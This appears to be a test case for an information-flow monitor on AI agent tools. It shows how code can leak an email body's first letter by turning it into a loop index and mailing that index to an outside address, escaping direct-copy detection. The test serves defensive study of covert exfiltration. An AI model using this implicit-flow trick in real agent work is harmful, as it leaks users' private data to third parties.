// attack: a loop over a literal alphabet breaks when it meets the body's first letter; the index survives
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const first = m.body.charAt(0);
let i = 0;
for (const c of 'abcdefghijklmnopqrstuvwxyz') {
  if (c === first) {
    break;
  }
  i++;
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'index', body: 'i=' + i });
